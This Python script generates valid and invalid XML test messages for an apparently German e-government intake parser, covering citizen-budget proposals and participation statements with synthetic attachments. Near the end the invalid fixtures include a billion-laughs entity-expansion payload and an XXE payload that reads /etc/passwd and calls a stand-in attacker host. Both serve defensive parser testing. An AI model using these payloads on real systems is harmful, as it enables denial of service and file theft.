"""Generates the example messages in this folder (fictional people, real attachment bytes)."""
import struct, zlib, re
from datetime import datetime, timezone, timedelta
from pathlib import Path
from egov.intake.jsonform import build_xfall_message
from egov.intake.model import Applicant
from egov.intake import xfall

OUT = Path(__file__).resolve().parent  # run: .venv/bin/python schemas/xfall/examples/make_examples.py
TZ = timezone(timedelta(hours=1))

def pdf() -> bytes:
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        None,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    stream = b"BT /F1 18 Tf 72 770 Td (Buergerbudget Jena - Lageplan Sitzbank) Tj ET"
    objs[3] = b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream"
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for i, body in enumerate(objs, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return bytes(out)

def png(w=16, h=16) -> bytes:
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    rows = b"".join(b"\x00" + b"".join(bytes((x * 16 % 256, 160, (255 - y * 16) % 256)) for x in range(w)) for y in range(h))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")

ERIKA = Applicant("Erika", "Mustermann", "erika.mustermann@example.org", "bundid", "substantial")
MAX = Applicant("Max", "Mustermann", None, "eid", "high")

BB = dict(title="Sitzbänke im Paradiespark", description="Drei neue Sitzbänke entlang des Saaleufers,\nbarrierefrei erreichbar.",
          location="Paradiespark, Saaleufer", category="gruenflaeche", estimated_cost_eur="3600.00",
          follow_up_cost_eur="450.00", public_space=True, other_funding_available=False)

def build(name, mid, **kw):
    args = dict(message_id=mid, leika_key=xfall.LEIKA_BUERGERBUDGET, authority_ars=xfall.ARS_JENA, applicant=ERIKA,
                reply_postfach="postfach:bundid:erika-mustermann-0001", fachdaten_namespace=xfall.NS_BUERGERBUDGET,
                data=BB, attachments=[], created_at=datetime(2025, 3, 14, 9, 30, 0, 123000, tzinfo=TZ))
    args.update(kw)
    return build_xfall_message(**args)

def comment(xml: bytes, text: str) -> bytes:
    decl, rest = xml.split(b"\n", 1)
    return decl + b"\n<!-- " + text.encode() + b" -->\n" + rest

def write(kind, name, xml: bytes):
    (OUT / kind / name).write_bytes(xml)

two = build("", "6f1c2b1e-8a4d-4c1e-9f7a-1b2c3d4e5f60", attachments=[("lageplan.pdf", "application/pdf", pdf()), ("skizze.png", "image/png", png())])
write("valid", "buergerbudget-zwei-anhaenge.xml", comment(two, "Gültig: Bürgerbudget-Vorschlag mit zwei Anhängen (PDF, PNG), Größe und SHA-512 korrekt."))
over = build("", "0d7e1b7c-3f0a-4b8e-a1d2-5c6b7a8f9e01", applicant=MAX, reply_postfach=None,
             data=dict(BB, title="Kunstrasen für den Bolzplatz Lobeda-West", description="Erneuerung des Bolzplatzes mit Kunstrasen.", location="Lobeda-West, Bolzplatz Karl-Marx-Allee", category="sport", estimated_cost_eur="4800.00", follow_up_cost_eur="1200.00"))
write("valid", "buergerbudget-ueber-kostengrenze.xml", comment(over, "Gültig (schemagültig): 4.800 EUR + 1.200 EUR Folgekosten = 6.000 EUR, über der 5.000-EUR-Grenze; die Formalprüfung (DMN) lehnt ab, nicht der Parser. Keine Anhänge."))
STN = dict(participation="urn:jena:vorgang:2026:18", text="Bitte die Streuobstwiese am Lobdeburgweg ganz erhalten und den Fußweg zur Kernbergstraße offen lassen.",
           location='{"type":"Point","coordinates":[11.6105,50.8851]}', named=False)
stn = build("", "a3b4c5d6-e7f8-4a1b-8c2d-3e4f5a6b7c8d", leika_key=xfall.LEIKA_BETEILIGUNG, fachdaten_namespace=xfall.NS_BETEILIGUNG, data=STN,
            attachments=[("foto-streuobstwiese.png", "image/png", png())])
# A statement (Fachdaten beteiligung-1.0) on the participation that valid/beteiligung-initiierung.xml
# opens (by its Vorgangs-ID); that one is written by hand, not by this script.
write("valid", "beteiligung-stellungnahme.xml", comment(stn, "Gültig: Stellungnahme (Fachdaten beteiligung-1.0) über ein Portal zum Verfahren mit der Vorgangs-ID urn:jena:vorgang:2026:18 (aus beteiligung-initiierung.xml), mit Punkt im Plangebiet und einem Foto; kein neuer Vorgang."))
fol = build("", "b1c2d3e4-f5a6-4b7c-9d8e-0f1a2b3c4d5e", attachments=[("kostenschaetzung.pdf", "application/pdf", pdf())], follow_up_case_reference="JENA-2025-000042")
write("valid", "buergerbudget-nachreichung.xml", comment(fol, "Gültig: Nachreichung (bezugVorgang JENA-2025-000042) mit einem Anhang."))

def inv(name, code, xml: bytes):
    write("invalid", name, comment(xml, f"erwarteter Fehlercode: {code}"))

inv("malformed.xml", "xml-malformed", stn.replace(b"</xfall:leistung>", b"</xfall:leistun>", 1))
inv("falscher-namensraum.xml", "unknown-format", stn.replace(b"urn:egov-oss:xfall-profil:1.0", b"http://www.xfall.de/container/2.0", 1))
inv("ohne-leistung.xml", "schema-invalid", re.sub(rb"\s*<xfall:leistung>[^<]*</xfall:leistung>", b"", stn))
inv("leika-muster-falsch.xml", "schema-invalid", stn.replace(b"99107005000000</xfall:leistung>", b"9910700500</xfall:leistung>"))
inv("fachdaten-ungueltig.xml", "fachdaten-invalid", over.replace(b"<kategorie>sport</kategorie>", b"<kategorie>raumfahrt</kategorie>").replace(b"<geschaetzteKostenEUR>4800.00<", b"<geschaetzteKostenEUR>-5.001<"))
inv("unbekannte-fachdaten.xml", "unknown-fachdaten", over.replace(b"urn:egov-oss:fachdaten:buergerbudget:1.0", b"urn:example:fachdaten:hundesteuer:1.0"))
h = re.search(rb"<xfall:sha512>([0-9a-f]{128})</xfall:sha512>", two).group(1)
inv("anhang-hash-falsch.xml", "attachment-hash-mismatch", two.replace(h, h[:-4] + b"0000", 1))
s = re.search(rb"<xfall:groesse>(\d+)</xfall:groesse>", two).group(1)
inv("anhang-groesse-falsch.xml", "attachment-size-mismatch", two.replace(b"<xfall:groesse>" + s, b"<xfall:groesse>" + str(int(s) + 1).encode(), 1))
inv("anhang-base64-ungueltig.xml", "attachment-invalid-base64", fol.replace(b"<xfall:inhalt>\n", b"<xfall:inhalt>\n!!kein*base64!!\n", 1))
decl = b"<?xml version='1.0' encoding='UTF-8'?>\n"
lol = decl + b"""<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
""" + stn.split(b"\n", 1)[1].replace(b"<titel>", b"<titel>&lol9;").replace(b"<text>", b"<text>&lol9;")
inv("billion-laughs.xml", "xml-forbidden-construct", lol)
xxe = decl + b"""<!DOCTYPE antrag [
 <!ENTITY xxe SYSTEM "file:///etc/passwd">
 <!ENTITY remote SYSTEM "http://attacker.example/steal">
]>
""" + stn.split(b"\n", 1)[1].replace(b"<text>", b"<text>&xxe;&remote;")
inv("xxe.xml", "xml-forbidden-construct", xxe)
deep = b"<bt:tief>" * 100 + b"x" + b"</bt:tief>" * 100
inv("zu-tief.xml", "xml-too-deep", stn.replace(b"<text>", deep + b"<text>", 1).replace(b"<stellungnahme ", b"<stellungnahme xmlns:bt=\"urn:egov-oss:fachdaten:beteiligung:1.0\" ", 1))
inv("stellungnahme-ohne-text.xml", "fachdaten-invalid", re.sub(rb"<text>[^<]*</text>", b"<text> </text>", stn, count=1))
inv("stellungnahme-ohne-verfahren.xml", "fachdaten-invalid", re.sub(rb"\s*<beteiligung>[^<]*</beteiligung>", b"", stn, count=1))
print("ok")
